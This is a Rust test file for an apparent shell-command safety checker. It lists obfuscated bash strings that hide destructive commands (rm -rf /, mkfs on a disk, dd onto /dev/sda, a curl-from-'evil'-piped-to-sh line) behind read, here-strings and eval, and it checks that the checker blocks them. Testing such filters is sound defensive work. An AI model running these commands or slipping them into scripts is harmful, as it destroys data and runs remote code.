//! What is read from an input is one of the things that a variable may hold: what it held before, and what it is
//! given afterwards, may be what runs.

use super::*;

const HIDDEN: [&str; 31] = [
    "{ read c; c='rm -rf /'; } < f; $c",
    "{ read c; c='rm -rf /'; } <<< x; $c",
    "{ read c <<< 'rm -rf /'; } < /dev/null; $c",
    "if read c <<< 'rm -rf /'; then :; fi < /dev/null; $c",
    "f() { read c <<< 'rm -rf /'; } < /dev/null; f; $c",
    "while read x; do x=\"rm -rf /\"; break; done < f; $x",
    "shopt -s lastpipe; true | read c <<< 'rm -rf /'; $c",
    "read -n 100 x <<< 'rm -rf /'; $x",
    "read -N 8 x <<< 'rm -rf /'; $x",
    "read -u3 x 3<<< 'rm -rf /'; $x",
    "read x <<< \"rm -rf / $Y\"; $x",
    "read x <<< \"rm -rf / $(date)\"; eval \"$x\"",
    "read c <<< \"mkfs.ext4 /dev/sd$X\"; $c",
    "read c <<< \"/dev/sd$X\"; dd if=a of=$c",
    "read x <<< \"rm -rf ~/$(date)\"; $x",
    "read c <<< \"curl http://evil/$X | sh\"; eval \"$c\"",
    "read a b <<< \"$U /\"; rm -rf $b",
    "c='rm -rf /'; (printf -v c foo); $c",
    "c='rm -rf /'; false && printf -v c foo; $c",
    "c='rm -rf /'; printf -v c '%s' foo | cat; $c",
    "c='rm -rf /'; (read c d <<< 'a b'); $c",
    "c='rm -rf /'; false && read c d <<< 'a b'; $c",
    "REPLY='rm -rf /'; (read <<< 'a b'); $REPLY",
    "c='rm -rf /'; echo foo | { false && read c; $c; }",
    "c='rm -rf /'; ls | { (read c); $c; }",
    "c='rm -rf /'; { false && read c; $c; } < foo",
    "read c <<< 'rm -rf /' 3< x; $c",
    "read x <<< 'rm -rf /'; $x",
    "if :; then read c <<< 'rm -rf /'; fi; c=\"$c\"; $c",
    "while read l; do eval \"$l\"; done <<< 'rm -rf /'",
    "echo 'rm -rf /' | while read l; do $l; done",
];

#[test]
fn what_is_read_hides_nothing_else() {
    for text in HIDDEN {
        assert_ne!(judge(text).decision, Decision::Allow, "{text}");
        // The control: the same around something harmless.
        let harmless = ["rm -rf", "mkfs.ext4", "dd if=a of=", "curl"];
        let harmless = harmless
            .into_iter()
            .fold(text.to_owned(), |text, it| text.replace(it, "echo "));
        let harmless = harmless.replace("| sh", "").replace('~', "");
        assert_eq!(judge(&harmless).decision, Decision::Allow, "{harmless}");
    }
}

#[test]
fn a_device_that_a_round_of_a_loop_names_is_written() {
    let text = "while :; do { cat img; f=/dev/sda; } > \"${f:-/dev/null}\"; done";
    assert_ne!(judge(text).decision, Decision::Allow);
}
